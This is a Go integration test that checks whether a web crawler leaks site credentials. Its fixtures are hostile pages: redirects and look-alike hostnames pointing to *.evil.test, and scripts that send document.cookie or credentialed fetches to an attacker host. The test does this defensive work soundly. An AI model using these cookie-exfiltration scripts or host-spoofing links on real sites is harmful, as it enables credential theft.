package integration

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"io/fs"
	"math/rand/v2"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"google.golang.org/protobuf/encoding/prototext"

	render "crawlnode/render/browser"
)

// leakRules are the rules of TestSitesLeak. The addresses of all hosts are public ones, so
// credentials go over https only, but for open.test.
const leakRules = `
- match: [host:bank.test, host:deep.parent.test]
  auth: {basic: secret:basic}
  headers: {X-Api-Key: secret:apikey, X-Plain: visible}
  cookies-file: secret:jar
  cookies: host
- match: domain:token.test
  auth: {bearer: secret:bearer}
- match: [host:robots.test, host:map.test, host:maphop.test, host:policy.test, host:h2.test,
    host:wrong.test]
  auth: {bearer: secret:bearer}
- match: host:open.test
  headers: {X-Open-Key: secret:open}
  insecure: true
- match: [host:open.test, host:connect.test]
  proxy: http://secret:proxy2@PROXY2
- match: host:refused.test
  proxy: http://secret:badproxy@PROXY2
- match: host:mirror.test
  headers: {X-Mirror: secret:mirror}
`

// leakSecret is a value that must not get anywhere by itself. Its core is all letters and digits,
// so every way to write it as a text keeps it.
type leakSecret struct {
	name, core string
	forms      []string // how it may stand in bytes
	// sent says that a web server has sent it, so it may stand wherever answers do.
	sent bool
}

func newLeakSecret(name string, random *rand.Rand, sent bool) leakSecret {
	s := leakSecret{name: name, core: fmt.Sprintf("Zq%016x%016x", random.Uint64(), random.Uint64()),
		sent: sent}
	s.forms = []string{s.core, hex.EncodeToString([]byte(s.core))}
	for pad := range 3 { // in base64 behind any text: without the characters that have bits of others
		text := base64.RawStdEncoding.EncodeToString([]byte(strings.Repeat("x", pad) + s.core))
		from := []int{0, 2, 3}[pad]
		s.forms = append(s.forms, text[from:len(text)-2])
	}
	return s
}

func (s *leakSecret) in(text string) bool {
	return slices.ContainsFunc(s.forms, func(f string) bool { return strings.Contains(text, f) })
}

// leakWay is one way to have credentials go where they must not: what a URL answers, and what the
// crawl then asks for.
type leakWay struct {
	name string
	at   string // the URL with the way; asked for as a seed
	say  http.HandlerFunc
	to   string // a request that must come, so that the way has been tried; "": none needs to
}

// evil is a URL of a host of its own for each way.
func evil(name string) string { return "https://" + name + ".evil.test/got" }

func redirectTo(code int, to string) http.HandlerFunc {
	return func(rw http.ResponseWriter, _ *http.Request) {
		rw.Header().Set("Location", to)
		rw.WriteHeader(code)
	}
}

func shows(html string) http.HandlerFunc {
	return func(rw http.ResponseWriter, _ *http.Request) { showPage(rw, html) }
}

func withHeader(name, value string) http.HandlerFunc {
	return func(rw http.ResponseWriter, _ *http.Request) {
		rw.Header().Set(name, value)
		showPage(rw, "<title>header</title>")
	}
}

// leakWays are all ways. ip is the address of bank.test.
func leakWays(ip string, browser bool) (ways []leakWay) {
	const bank = "https://bank.test"
	add := func(name string, say http.HandlerFunc, to string) {
		ways = append(ways, leakWay{name, bank + "/" + strings.ReplaceAll(name, " ", "-"), say, to})
	}
	at := func(name, url string, say http.HandlerFunc, to string) {
		ways = append(ways, leakWay{name, url, say, to})
	}
	link := func(href string) http.HandlerFunc { return shows(`<a href="` + href + `">x</a>`) }
	// Redirects to another host, to the host without TLS, and in chains.
	for _, code := range []int{301, 302, 303, 307, 308} {
		to := evil(fmt.Sprint("r", code))
		add(fmt.Sprint("redirect ", code), redirectTo(code, to), to)
	}
	add("redirect to http elsewhere", redirectTo(302, "http://plain.evil.test/got"),
		"http://plain.evil.test/got")
	add("downgrade", redirectTo(302, "http://bank.test/down"), "http://bank.test/down")
	add("downgrade link", link("http://bank.test/downlink"), "http://bank.test/downlink")
	add("redirect without scheme", redirectTo(302, "//noscheme.evil.test/got"), evil("noscheme"))
	add("chain out", redirectTo(302, bank+"/chain2"), bank+"/chain2")
	at("chain out 2", bank+"/chain2", redirectTo(302, evil("chain")), evil("chain"))
	at("there and back", "https://back.evil.test/start", redirectTo(302, bank+"/back"), bank+"/back")
	at("there and back 2", bank+"/back", redirectTo(302, evil("back2")), evil("back2"))
	add("many redirects", redirectTo(302, evil("hop1")), evil("hop1"))
	at("many redirects 2", evil("hop1"), redirectTo(302, evil("hop2")), evil("hop2"))
	// Pages that lead elsewhere.
	add("meta refresh", shows(`<meta http-equiv=refresh content="0;url=`+evil("meta")+`">`),
		evil("meta"))
	add("refresh header", withHeader("Refresh", "0; url="+evil("refresh")), "")
	add("canonical", shows(`<link rel=canonical href="`+evil("canonical")+`">`), "")
	add("canonical header", withHeader("Link", "<"+evil("canonicalheader")+`>; rel="canonical"`), "")
	add("alternate", shows(`<link rel=alternate hreflang=de href="`+evil("alternate")+`">`), "")
	add("base", shows(`<base href="https://base.evil.test/"><a href="got">x</a>`), evil("base"))
	add("alt-svc", withHeader("Alt-Svc", `h2="altsvc.evil.test:443"; ma=3600`), "")
	add("form", shows(`<form action="`+evil("form")+`"><input name=q></form>`), "")
	// Names that look like the host.
	add("user info", link("https://bank.test@user.evil.test/got"), evil("user"))
	add("user info with port", link("https://bank.test:443@user2.evil.test/got"), evil("user2"))
	add("backslash", link(`https://backslash.evil.test\@bank.test/got`), "")
	add("slashes", link(`https:\\slashes.evil.test\got`), evil("slashes"))
	add("encoded dot", link("https://bank.test%2eevil.test/got"), "https://bank.test.evil.test/got")
	add("encoded at", link("https://bank.test%40at.evil.test/got"), "")
	add("sub-domain", link("https://www.bank.test/got"), "https://www.bank.test/got")
	add("longer name", link("https://bank.test.longer.test/got"), "https://bank.test.longer.test/got")
	add("shorter name", link("https://ank.test/got"), "https://ank.test/got")
	add("prefixed name", link("https://xbank.test/got"), "https://xbank.test/got")
	add("cyrillic a", link("https://b\u0430nk.test/got"), "https://xn--bnk-6cd.test/got")
	add("sharp s", link("https://ba\u00dfk.test/got"), "")
	add("full width", link("https://\uff42\uff41\uff4e\uff4b.test/wide"), bank+"/wide")
	add("ideographic stop", link("https://bank\u3002test/stop"), bank+"/stop")
	add("trailing dot", link("https://bank.test./dot"), "")
	add("upper case", link("HTTPS://BANK.TEST/upper"), bank+"/upper")
	add("zero width", link("https://ba\u200bnk.test/zero"), bank+"/zero")
	add("address", link("https://"+ip+"/address"), "https://"+ip+"/address")
	add("address without TLS", link("http://"+ip+"/address"), "http://"+ip+"/address")
	add("address as a number", link(fmt.Sprintf("http://%d/number", number4(ip))),
		"http://"+ip+"/number")
	add("address in a name", link("https://"+ip+".nip.test/got"), "https://"+ip+".nip.test/got")
	add("port without TLS", link("http://bank.test:8080/port"), "http://bank.test:8080/port")
	at("parent domain", "https://deep.parent.test/", link("https://parent.test/got"),
		"https://parent.test/got")
	at("sibling", "https://deep.parent.test/s", link("https://side.parent.test/got"),
		"https://side.parent.test/got")
	at("domain rule", "https://token.test/", link("https://sub.token.test/in"),
		"https://sub.token.test/in")
	at("domain in the middle", "https://token.test/m", link("https://token.test.evil.test/got"),
		"https://token.test.evil.test/got")
	at("domain without dot", "https://token.test/d", link("https://eviltoken.test/got"),
		"https://eviltoken.test/got")
	at("domain without TLS", "https://token.test/h", link("http://sub.token.test/down"),
		"http://sub.token.test/down")
	// Parts of pages.
	for _, part := range []string{"<img src=%q>", "<script src=%q></script>",
		"<link rel=stylesheet href=%q>",
		"<img srcset=\"%s 2x\">", "<video poster=%q></video>", "<style>@import url(%q);</style>"} {
		name := fmt.Sprint("part", len(ways))
		add("part "+name, shows("<title>p</title>"+fmt.Sprintf(part, evil(name))), evil(name))
	}
	add("frame", shows(`<iframe src="`+evil("frame")+`"></iframe>`), "")
	add("part of the host on another's page", link("https://embeds.evil.test/"),
		"https://embeds.evil.test/")
	at("embeds", "https://embeds.evil.test/", shows(`<img src="`+bank+`/logo.png">`), bank+"/logo.png")
	// Files beside the pages.
	at("robots.txt elsewhere", "https://robots.test/robots.txt", redirectTo(302, evil("robots")),
		evil("robots"))
	at("sitemap elsewhere", "https://map.test/robots.txt",
		showsAs("text/plain", "Sitemap: "+evil("map")+"\n"), evil("map"))
	at("sitemap with a redirect", "https://maphop.test/sitemap.xml", redirectTo(302, evil("maphop")),
		"")
	at("reservation file", "https://policy.test/.well-known/tdmrep.json",
		redirectTo(302, evil("policy")), "")
	// Challenges and cookies of others.
	at("challenge", "https://challenge.evil.test/", func(rw http.ResponseWriter, _ *http.Request) {
		rw.Header().Set("Www-Authenticate", `Basic realm="bank.test"`)
		rw.WriteHeader(http.StatusUnauthorized)
	}, "https://challenge.evil.test/")
	asks := func(rw http.ResponseWriter, _ *http.Request) {
		rw.Header().Set("Proxy-Authenticate", `Basic realm="p"`)
		rw.WriteHeader(http.StatusProxyAuthRequired)
	}
	at("proxy challenge", "https://proxychallenge.evil.test/", asks,
		"https://proxychallenge.evil.test/")
	at("cookie for the top", bank+"/topcookie", withHeader("Set-Cookie", "top=1; Domain=test"),
		bank+"/topcookie")
	at("h2", "https://h2.test/", link(evil("h2")), evil("h2"))
	at("wrong certificate", "https://wrong.test/", link(evil("wrong")), "")
	at("open", "http://open.test/", redirectTo(302, "http://open.evil.test/got"),
		"http://open.evil.test/got")
	at("connect", "https://connect.test/", link(evil("connect")), evil("connect"))
	at("refused proxy", "https://refused.test/", link(evil("refused")), "")
	at("mirror", "https://mirror.test/", func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("X-You-Sent", r.Header.Get("X-Mirror"))
		showPage(rw, "<title>mirror</title><p>"+r.Header.Get("X-Mirror"))
	}, "https://mirror.test/")
	if browser {
		at("script navigation", bank+"/shown-nav", shows(`<script>location = "`+evil("nav")+`"</script>`),
			"")
		at("script fetch", bank+"/shown-fetch", shows(`<script>fetch("`+evil("fetch")+
			`", {credentials: "include"})</script>`), "")
		at("script form", bank+"/shown-form", shows(`<form method=post action="`+evil("post")+
			`"></form><script>document.forms[0].submit()</script>`), "")
		at("script picture", bank+"/shown-picture", shows(`<script>new Image().src = "`+evil("picture")+
			`?" + document.cookie</script>`), "")
		at("script link", bank+"/shown-link", shows(`<a id=a></a><script>a.href = "`+evil("scriptlink")+
			`"; a.text = "x"</script>`), evil("scriptlink"))
	}
	return ways
}

func showsAs(kind, text string) http.HandlerFunc {
	return func(rw http.ResponseWriter, _ *http.Request) {
		rw.Header().Set("Content-Type", kind)
		_, _ = io.WriteString(rw, text) // a client that has gone is judged elsewhere
	}
}

// isFile reports whether a path is asked for beside the pages of a host.
func isFile(path string) bool {
	return path == "/robots.txt" || path == "/sitemap.xml" || strings.HasPrefix(path, "/.well-known/")
}

// number4 is an IPv4 address as one number.
func number4(ip string) (n uint32) {
	for _, b := range net.ParseIP(ip).To4() {
		n = n<<8 | uint32(b)
	}
	return n
}

// mayHave says which secrets a request to a host may have.
func mayHave(q *ruleRequest) []string {
	secure := q.scheme == "https"
	switch {
	case secure && q.host == "bank.test":
		return []string{"basic", "apikey", "file", "session"}
	case secure && q.host == "deep.parent.test":
		return []string{"basic", "apikey"}
	case secure && (q.host == "token.test" || strings.HasSuffix(q.host, ".token.test")),
		secure && slices.Contains([]string{"robots.test", "map.test", "maphop.test", "policy.test",
			"h2.test"}, q.host):
		return []string{"bearer"}
	case q.host == "open.test":
		return []string{"open"}
	case secure && q.host == "mirror.test":
		return []string{"mirror"}
	}
	return nil
}

// leakTest is what TestSitesLeak has in its hands.
type leakTest struct {
	*testing.T
	secrets []leakSecret
	w       *ruleWeb
	found   map[string]bool // complaints, each once
}

func (l *leakTest) secret(name string) *leakSecret {
	i := slices.IndexFunc(l.secrets, func(s leakSecret) bool { return s.name == name })
	return &l.secrets[i]
}

// clean requires that a text has no secret. answers says that it may show what servers have sent.
func (l *leakTest) clean(where, text string, answers bool) {
	l.Helper()
	for _, s := range l.secrets {
		if s.in(text) && !(s.sent && answers) && !l.found[where+s.name] {
			l.found[where+s.name] = true
			l.Errorf("%s has the secret %s: %s", where, s.name, around(text, &s))
		}
	}
}

// around is what stands around a secret.
func around(text string, s *leakSecret) string {
	for _, f := range s.forms {
		if i := strings.Index(text, f); i >= 0 {
			return fmt.Sprintf("%q", text[max(0, i-120):min(len(text), i+len(f)+60)])
		}
	}
	return ""
}

// TestSitesLeak tries to have credentials of a site go to another one, to a proxy, or over http, in
// some 75 ways; then looks for each of them, in several codings, in everything that two nodes have
// written and say.
func TestSitesLeak(t *testing.T) {
	needsProcesses(t)
	t.Parallel()
	seed := uint64(time.Now().UnixNano())
	t.Logf("the secrets are of the seed %d", seed)
	random := rand.New(rand.NewPCG(seed, 40))
	l := &leakTest{T: t, found: map[string]bool{}}
	for _, name := range []string{"basic", "bearer", "apikey", "file", "open", "proxy1", "proxy2",
		"badproxy", "typed"} {
		l.secrets = append(l.secrets, newLeakSecret(name, random, false))
	}
	l.secrets = append(l.secrets, newLeakSecret("session", random, true),
		newLeakSecret("mirror", random, true))

	answers := map[string]http.HandlerFunc{}
	l.w = newRuleWeb(t, "93.184.16.1", func(rw http.ResponseWriter, r *http.Request) {
		scheme := "http"
		if r.TLS != nil {
			scheme = "https"
		}
		host, _, _ := strings.Cut(r.Host, ":")
		if host == "bank.test" && scheme == "https" && r.URL.Path != "/robots.txt" {
			rw.Header().Add("Set-Cookie", "session="+l.secret("session").core+"; Path=/; Secure; HttpOnly")
		}
		if say := answers[scheme+"://"+host+r.URL.Path]; say != nil {
			say(rw, r)
			return
		}
		if isFile(r.URL.Path) {
			http.NotFound(rw, r)
			return
		}
		showPage(rw, "<title>"+host+"</title>")
	})
	_, err := render.Find("")
	browser := err == nil
	if !browser && os.Getenv("CI") != "" {
		t.Errorf("needs Chromium, which make deps installs: %v", err)
	}
	ways := leakWays(l.w.addr("bank.test").String(), browser)
	var seeds []string
	for _, way := range ways {
		answers[way.at] = way.say
		if u, _ := url.Parse(way.at); isFile(u.Path) {
			seeds = append(seeds, "https://"+u.Host+"/")
		} else {
			seeds = append(seeds, way.at)
		}
	}
	authority := newAuthority(t)
	l.w.overTLS(authority)
	route := func(target string) string {
		switch _, port, _ := net.SplitHostPort(target); port {
		case "443":
			return l.w.secure
		case "80", "8080":
			return l.w.plain
		}
		return ""
	}
	main := newRuleProxy(t, "carol:"+l.secret("proxy1").core, route)
	second := newRuleProxy(t, "dave:"+l.secret("proxy2").core, route)

	dir := t.TempDir()
	secretFile(t, filepath.Join(dir, "cookies.txt"), "# Netscape HTTP Cookie File\n"+
		strings.Join([]string{"bank.test", "FALSE", "/", "FALSE", "0", "gate", l.secret("file").core},
			"\t")+"\n")
	secrets := secretFile(t, filepath.Join(dir, "secrets"), strings.Join([]string{
		"basic=alice:" + l.secret("basic").core,
		"bearer=" + l.secret("bearer").core,
		"apikey=" + l.secret("apikey").core,
		"open=" + l.secret("open").core,
		"mirror=" + l.secret("mirror").core,
		"jar=cookies.txt",
		"proxy1=" + main.login,
		"proxy2=" + second.login,
		"badproxy=mallory:" + l.secret("badproxy").core,
	}, "\n")+"\n")
	rules := strings.ReplaceAll(leakRules, "PROXY2", second.addr)
	if browser {
		rules += "- match: prefix:https://bank.test/shown-\n  render: all\n"
	}
	spans := collectSpans(t)
	sinks := t.TempDir()
	c := newCluster(t, "--contact", "me@example.org", "--dns", l.w.dns, "--delay", "10ms",
		"--ip-delay", "10ms", "--partitions", "512", "--scope", "any", "--assets", "any",
		"--retries", "0", "--purpose", "search,ai-train",
		"--derive", "all", "--log-skipped", "1", "--index", "on", "--log-level", "debug",
		"--otlp-endpoint", "http://"+spans.addr, "--trace-sample", "1",
		"--proxy", "socks5://secret:proxy1@"+main.addr, "--secrets", secrets,
		"--sites", secretFile(t, filepath.Join(dir, "rules.yaml"), rules))
	for i := range 2 {
		n := c.place("--sink", fmt.Sprintf("file:%s/%d.jsonl", sinks, i))
		n.wrap = []string{"env", "SSL_CERT_FILE=" + authority.file}
		n.start()
		n.ready()
	}
	c.converged(time.Minute)
	c.nodes[0].seed(seeds...)
	until(t, 2*time.Minute, func() string {
		got := map[string]bool{}
		for _, q := range l.w.requests() {
			got[q.url()] = true
		}
		for _, way := range ways {
			if way.to != "" && !got[way.to] {
				return fmt.Sprintf("%s: %s has not been asked for", way.name, way.to)
			}
		}
		return ""
	})
	until(t, time.Minute, func() string { // all but hosts that cannot be reached
		var queued struct{ URLs []struct{ URL string } }
		if err := c.nodes[0].decode("/api/v1/urls?state=queued&limit=50", &queued); err != nil {
			return err.Error()
		}
		for _, u := range queued.URLs {
			if u.URL != "https://refused.test/" && u.URL != "https://wrong.test/" {
				return u.URL + " is queued"
			}
		}
		return ""
	})

	l.judgeRequests()
	l.judgeProxies(main, second)
	l.typedByMistake(c.nodes[0])
	l.judgeAPI(c)
	crash := c.nodes[1]
	crash.signal(syscall.SIGQUIT) // the stacks of all goroutines go to its log
	<-crash.done
	if !strings.Contains(tail(crash.log, 1<<20), "goroutine ") {
		t.Error("SIGQUIT has not written stacks")
	}
	c.stop()
	for _, n := range c.nodes {
		l.clean("the log of "+n.name, tail(n.log, 1<<30), false)
	}
	spans.mu.Lock()
	for _, s := range spans.spans {
		l.clean("a span", prototext.Format(s.Span), false)
	}
	if len(spans.spans) == 0 {
		t.Error("no span was sent")
	}
	spans.mu.Unlock()
	l.judgeFiles("the data directory", c.dir)
	l.judgeFiles("the sink", sinks)
	l.judgeExports(c)
	t.Logf("%d ways, %d requests", len(ways), len(l.w.requests()))
}

// judgeRequests judges every request at the web server, and that the credentials got where they
// belong.
func (l *leakTest) judgeRequests() {
	l.Helper()
	got := map[string]int{}
	for _, q := range l.w.requests() {
		var text strings.Builder
		fmt.Fprintln(&text, q.host, q.uri, q.body)
		_ = q.header.Write(&text) // a builder takes everything
		may := mayHave(&q)
		for _, s := range l.secrets {
			if !s.in(text.String()) {
				continue
			}
			if got[s.name+" "+q.host]++; !slices.Contains(may, s.name) {
				l.Errorf("%s was asked for with the secret %s:\n%s", q.url(), s.name, text.String())
			}
		}
		for _, name := range []string{"Proxy-Authorization", "Proxy-Connection"} {
			if q.header.Get(name) != "" {
				l.Errorf("%s was asked for with %s: %s", q.url(), name, q.header.Get(name))
			}
		}
		if q.host == "h2.test" && q.proto != "HTTP/2.0" {
			l.Errorf("%s was asked for over %s", q.url(), q.proto)
		}
	}
	for _, want := range []string{"basic bank.test", "apikey bank.test", "file bank.test",
		"session bank.test",
		"basic deep.parent.test", "bearer token.test", "bearer sub.token.test", "bearer h2.test",
		"bearer robots.test", "open open.test", "mirror mirror.test"} {
		if got[want] == 0 {
			l.Errorf("no request had the secret of %q: the test proves nothing", want)
		}
	}
}

// judgeProxies judges what nodes said to the proxies themselves.
func (l *leakTest) judgeProxies(main, second *ruleProxy) {
	l.Helper()
	main.mu.Lock()
	second.mu.Lock()
	defer main.mu.Unlock()
	defer second.mu.Unlock()
	if len(main.heads) > 0 {
		l.Errorf("the SOCKS proxy was asked over http: %q", main.heads[0])
	}
	for _, login := range main.told {
		if login != main.login {
			l.Errorf("the SOCKS proxy was told %q", login)
		}
	}
	kinds := map[string]int{}
	for _, head := range second.heads {
		kind, _, _ := strings.Cut(head, " ")
		kinds[kind]++
		for _, s := range l.secrets {
			own := s.name == "proxy2" || s.name == "badproxy" || kind != "CONNECT" && s.name == "open"
			if s.in(head) && !own {
				l.Errorf("the proxy was told the secret %s: %s", s.name, head)
			}
		}
		if kind == "CONNECT" && (strings.Contains(head, "X-") || strings.Contains(head, "Cookie")) {
			l.Errorf("the proxy was told more than it needs: %s", head)
		}
	}
	if kinds["CONNECT"] == 0 || kinds["GET"] == 0 {
		l.Errorf("the HTTP proxy was asked %v", kinds)
	}
}

// typedByMistake sets rules with a password where the name of a secret belongs. They are refused,
// and what refuses them does not repeat it.
func (l *leakTest) typedByMistake(n *node) {
	l.Helper()
	for _, field := range []string{"proxy: http://erin:PASSWORD@127.0.0.1:1",
		"auth: {basic: erin:PASSWORD}", "auth: PASSWORD", "auth: {PASSWORD: secret:basic}",
		"cookies-file: PASSWORD",
		"cookies-file: secret:PASS WORD/PASSWORD", "source-address: PASSWORD"} {
		text := "- match: host:x.test\n  " + strings.ReplaceAll(field, "PASSWORD", l.secret("typed").core)
		req, err := n.request(http.MethodPut, "/api/v1/sites", strings.NewReader(text))
		if err != nil {
			l.Fatal(err)
		}
		req.Header.Set("Content-Type", "application/yaml")
		resp, err := n.c.client().Do(req)
		if err != nil {
			l.Fatal(err)
		}
		body, err := io.ReadAll(resp.Body)
		_ = resp.Body.Close()
		if err != nil || resp.StatusCode != http.StatusBadRequest {
			l.Errorf("%s: status %d, %v", field, resp.StatusCode, err)
		}
		if !strings.HasPrefix(field, "source") && !strings.HasPrefix(field, "auth: {P") {
			l.clean("the answer to "+field, string(body), false)
		}
	}
}

// judgeAPI looks into everything that the API says.
func (l *leakTest) judgeAPI(c *cluster) {
	l.Helper()
	bank := url.QueryEscape("https://bank.test/redirect-301")
	paths := []string{"/status?all=true", "/metrics", "/readyz", "/api/v1/crawl", "/api/v1/sites",
		"/api/v1/sites/test?url=" + bank, "/api/v1/sites/test?url=https%3A%2F%2Fopen.test%2F",
		"/api/v1/urls?limit=1000", "/api/v1/urls?url=" + bank, "/api/v1/urls?state=failed&limit=1000",
		"/api/v1/urls?state=queued&limit=1000", "/api/v1/hosts", "/api/v1/hosts/bank.test",
		"/api/v1/hosts/open.test",
		"/api/v1/hosts/refused.test", "/api/v1/captures?url=" + bank, "/api/v1/cdxj",
		"/cdx?url=bank.test/*",
		"/api/v1/analysis/host?host=bank.test", "/api/v1/analysis/url?url=" + bank,
		"/api/v1/audit?limit=1000",
		"/api/v1/history", "/api/v1/nodes", "/api/v1/ring", "/api/v1/stats", "/api/v1/search?query=bank",
		"/api/v1/events?format=json&limit=1000", "/openapi.json", "/"}
	for _, n := range c.nodes {
		good := 0
		for _, path := range paths {
			code, body, err := n.get(path)
			if err != nil {
				l.Errorf("%s %s: %v", n.name, path, err)
			}
			if code == http.StatusOK {
				good++
			} else {
				l.Logf("%s%s answers %d: %.200s", n.name, path, code, body)
			}
			l.clean(n.name+path, string(body), false)
		}
		if good < len(paths) {
			l.Errorf("%s: only %d paths of %d answer 200", n.name, good, len(paths))
		}
	}
}

// judgeFiles looks into every file below a directory: as it is, unpacked, and request records of
// archives by themselves.
func (l *leakTest) judgeFiles(what, dir string) {
	l.Helper()
	files, redacted := 0, 0
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() || strings.HasSuffix(path, ".log") &&
			filepath.Dir(path) == dir {
			return err
		}
		content, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		files++
		name, _ := filepath.Rel(dir, path)
		l.clean(what+"'s "+name, string(content), true)
		if z, err := zip.NewReader(bytes.NewReader(content), int64(len(content))); err == nil {
			for _, f := range z.File {
				in, err := f.Open()
				if err != nil {
					return err
				}
				plain, err := io.ReadAll(in)
				if err != nil {
					return err
				}
				l.clean(what+"'s "+name+", "+f.Name, string(plain), true)
			}
		}
		if z, err := gzip.NewReader(bytes.NewReader(content)); err == nil {
			plain, err := io.ReadAll(z)
			if err != nil {
				l.Errorf("%s: %v", path, err)
			}
			l.clean(what+"'s "+name+", unpacked", string(plain), true)
			for _, record := range strings.Split(string(plain), "WARC/1.") {
				head, block, _ := strings.Cut(record, "\r\n\r\n")
				if strings.Contains(head, "WARC-Type: request") {
					l.clean("a request record of "+name, block, false)
					redacted += strings.Count(block, "<redacted>")
				}
			}
		}
		return nil
	})
	if err != nil || files == 0 {
		l.Errorf("%s: %d files, %v", what, files, err)
	}
	if what == "the data directory" && redacted < 20 {
		l.Errorf("only %d values are redacted in request records", redacted)
	}
}

// judgeExports looks into what verbs make of the data directories.
func (l *leakTest) judgeExports(c *cluster) {
	l.Helper()
	out := l.TempDir()
	dirs := []string{"--data-dir", c.nodes[0].dir, "--data-dir", c.nodes[1].dir}
	for name, args := range map[string][]string{
		"warc": {"warc"}, "wacz": {"wacz"}, "jsonl": {"jsonl"}, "bulk": {"bulk"}, "cdxj": {"cdxj"},
		"files": {"files"}, "parquet": {"parquet"}, "links.parquet": {"parquet", "--table", "links"},
	} {
		args = append(append([]string{"export"}, args...), dirs...)
		if code, _, errs := run(l.T, "", append(args, "-o", filepath.Join(out, name))...); code != 0 {
			l.Errorf("%q: exit code %d\n%s", args, code, errs)
		}
	}
	l.judgeFiles("the exports", out)
	site := replayed(l.T, c.nodes[0].dir, c.nodes[1].dir)
	for _, path := range []string{"/", "/web/https://bank.test/redirect-301",
		"/web/20200101000000/https://bank.test/meta-refresh",
		"/web/timemap/link/https://bank.test/meta-refresh"} {
		resp, err := client.Get(site + path)
		if err != nil {
			l.Errorf("%s: %v", path, err)
			continue
		}
		body, err := io.ReadAll(resp.Body)
		_ = resp.Body.Close()
		if err != nil {
			l.Errorf("%s: %v", path, err)
		}
		l.clean("replay of "+path, string(body)+fmt.Sprint(resp.Header), true)
	}
	for _, args := range [][]string{{"cat", "https://bank.test/meta-refresh"}, {"urls", "list"},
		{"crawl-config", "show"}, {"sites", "show"}} {
		_, stdout, stderr := run(l.T, "", append(args, "--data-dir", c.nodes[0].dir)...)
		l.clean(fmt.Sprint("the verb ", args), stdout+stderr, true)
	}
}
